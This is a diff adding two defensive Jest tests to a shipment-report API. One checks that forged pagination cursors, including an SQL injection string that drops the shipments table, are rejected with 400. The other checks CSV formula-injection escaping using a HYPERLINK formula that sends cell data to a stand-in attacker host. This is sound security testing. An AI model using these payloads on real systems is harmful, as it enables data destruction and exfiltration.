@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import { findStuckShipments } from '@parcelwatch/db';
 import { createMerchant, daysAgo, NOW, seedException, seedShipment, startReportApi, type ReportApi } from './report-test-kit.js';
+import { spreadsheetSafe, STUCK_CSV_COLUMNS, stuckCsvRecord, type StuckItemView } from '../src/reports/stuck-report.routes.js';
 
 // NOW is 2026-03-02T10:00Z. Tracking numbers name why a shipment is (or is not) stuck.
 describe('GET /v1/reports/stuck', () => {
@@ -176,5 +177,49 @@ describe('GET /v1/reports/stuck', () => {
     expect(other.body).toMatchObject({ error: 'invalid_cursor', message: expect.stringContaining('sort=days_without_scan') });
     const garbage = await t.get('/v1/reports/stuck?cursor=bm90LWpzb24', [merchantA]);
     expect(garbage.status).toBe(400);
+  });
+
+  it('answers 400, never 500, for forged cursors that decode but would choke the query', async () => {
+    const forge = (body: unknown) => Buffer.from(JSON.stringify(body)).toString('base64url');
+    const id = '7d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f';
+    const forged = [
+      forge(null),
+      forge([1, 2]),
+      forge('text'),
+      forge({ s: 'days_without_scan', o: 'desc', k: 'not-a-time', i: id }),
+      forge({ s: 'days_without_scan', o: 'desc', k: '2026-02-30 10:00:00+00', i: id }),
+      forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 25:00:00+00', i: id }),
+      forge({ s: 'days_without_scan', o: 'desc', k: "2026-11-23 10:00:00+00'); DROP TABLE shipments; --", i: id }),
+      forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 10:00:00+00', i: '------------------------------------' }),
+      forge({ s: 'days_without_scan', o: 'desc', k: 42, i: id }),
+      forge({ s: 'promised_date', o: 'asc', k: '2026-13-01', i: id }),
+    ];
+    for (const [n, cursor] of forged.entries()) {
+      const sort = n === forged.length - 1 ? '&sort=promised_date' : '';
+      const response = await t.get(`/v1/reports/stuck?limit=2${sort}&cursor=${cursor}`, [merchantA]);
+      expect({ n, status: response.status, error: response.body.error }).toEqual({ n, status: 400, error: 'invalid_cursor' });
+    }
+    const fine = await t.get(`/v1/reports/stuck?limit=2&cursor=${forge({ s: 'days_without_scan', o: 'desc', k: '2026-11-23 10:00:00.5+00', i: id })}`, [merchantA]);
+    expect(fine.status).toBe(200);
+  });
+});
+
+describe('the stuck CSV in a spreadsheet', () => {
+  it('shows formula-looking cells as text (an apostrophe before = + - @ tab and CR), the rest unchanged', () => {
+    const item = {
+      shipmentId: '7d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f', merchantId: '1d0c6a1e-2b1f-4c3a-9d7e-0a1b2c3d4e5f',
+      orderId: '=HYPERLINK("http://evil.example/?"&A1,"open")', trackingNumber: '+1-555-0100', carrier: '@carrier',
+      originCountry: 'CN', destinationCountry: 'US', milestone: 'in_transit' as const, reason: '\t=1+1',
+      lastCheckpointAt: null, daysWithoutScan: 9, promisedDeliveryDate: '2026-03-01', promisedDatePassed: true, openExceptions: ['stalled' as const],
+    };
+    const record = stuckCsvRecord(item as StuckItemView);
+    expect(Object.fromEntries(STUCK_CSV_COLUMNS.map((column, i) => [column, record[i]]))).toEqual({
+      shipmentId: item.shipmentId, merchantId: item.merchantId,
+      orderId: `'=HYPERLINK("http://evil.example/?"&A1,"open")`, trackingNumber: "'+1-555-0100", carrier: "'@carrier",
+      originCountry: 'CN', destinationCountry: 'US', milestone: 'in_transit', reason: "'\t=1+1",
+      lastCheckpointAt: '', daysWithoutScan: '9', promisedDeliveryDate: '2026-03-01', promisedDatePassed: 'true', openExceptions: 'stalled',
+    });
+    expect(spreadsheetSafe('-3')).toBe("'-3");
+    expect(spreadsheetSafe('ORDER-=1')).toBe('ORDER-=1');
   });
 });
